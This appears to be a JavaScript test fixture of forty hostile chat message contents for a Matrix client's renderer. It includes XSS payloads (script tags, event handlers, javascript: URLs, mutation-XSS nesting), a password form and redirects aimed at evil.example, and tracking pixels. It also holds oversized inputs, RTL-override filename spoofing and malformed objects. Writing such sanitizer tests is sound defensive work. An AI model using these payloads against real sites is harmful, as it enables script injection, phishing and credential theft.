// Forty messages that want to run something, to break the page, or to pretend to be something else.

const html = (formatted_body, body = "formatted") => ({ msgtype: "m.text", body, format: "org.matrix.custom.html", formatted_body });
const plain = (body) => ({ msgtype: "m.text", body });
const RUN = "globalThis.ran=(globalThis.ran||0)+1";

/** Contents of `m.room.message` events. */
export const HOSTILE = [
  // Markup that runs.
  plain(`<script>${RUN}</script>`),
  html(`<script>${RUN}</script>after`),
  html(`<img src=x onerror="${RUN}">after`),
  html(`<svg onload="${RUN}"><script>${RUN}</script></svg>after`),
  html(`<a href="javascript:${RUN}">click</a>`),
  html(`<a href="JaVa\tScRiPt:${RUN}">click</a>`),
  html(`<a href="data:text/html,<script>${RUN}</script>">click</a>`),
  html(`<iframe srcdoc="<script>parent.ran=1</script>"></iframe>after`),
  html(`<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>after`),
  html(`<noscript><p title="</noscript><img src=x onerror=${RUN}>">after`),
  html(`<template><img src=x onerror="${RUN}"></template>after`),
  html(`<details ontoggle="${RUN}" open><summary onclick="${RUN}">open</summary>inside</details>`),
  html(`<form action="https://evil.example" onsubmit="${RUN}"><input name=password autofocus onfocus="${RUN}"><button>go</button></form>after`),
  html(`<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">after`),
  html(`<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">after`),
  html(`<link rel="stylesheet" href="https://evil.example/x.css"><style>*{display:none}</style>after`),
  html(`<p style="position:fixed;inset:0;z-index:9999;background:red">over everything</p>`),
  html(`<p id="app" class="scroller" data-key="x" dir="rtl" slot="y">names of the page</p>`),
  html(`<video src="https://evil.example/x.mp4" autoplay></video><audio src="https://evil.example/x.mp3"></audio>after`),
  html(`<img src="https://evil.example/pixel.png">after`),
  html(`<dialog open>fake dialog</dialog><x-element is="evil">after</x-element>`),
  html(`<a href="https://rookery.example" onclick="${RUN}" target="_self" ping="https://evil.example">https://bank.example</a>`),
  // Huge.
  plain("word ".repeat(12_000)),
  plain("W".repeat(50_000)),
  plain("\n".repeat(5000) + "end"),
  plain(Array.from({ length: 3000 }, (_, at) => `https://a${at}.example/`).join(" ")),
  html("<b>".repeat(3000) + "deep" + "</b>".repeat(3000)),
  html("<p>x</p>".repeat(2000)),
  html(`<pre>${"W".repeat(20_000)}</pre>`, "wide"),
  html(`<table>${`<tr>${"<td>cell</td>".repeat(20)}</tr>`.repeat(2)}</table>`, "table"),
  // Directions and signs without width.
  plain("\u202Egnp.exe \u202Dover\u2066\u2067\u2068 no end"),
  plain("\u202E".repeat(2000) + "reversed"),
  plain("\u200B\u200C\u200D\u2060\uFEFF".repeat(1000)),
  plain("مرحبا بالعالم (hello) שלום 123"),
  // Marks that pile up.
  plain(`Z${"\u0301\u0316\u0342\u035C".repeat(800)}algo`),
  plain("\u{1F468}\u200D".repeat(300) + "\u{1F468}"),
  // Broken UTF-16, controls, and what is no text at all.
  plain("lone \uD83D high and \uDE00 low"),
  plain("\u0000\u0007\u001B[31m control \u0085\u2028\u2029"),
  { msgtype: "m.text", body: { toString: "no" }, formatted_body: ["<script>"], format: "org.matrix.custom.html" },
  { msgtype: { constructor: null }, body: "__proto__", "m.mentions": { user_ids: "everybody", room: "yes" }, "m.relates_to": 7 },
];
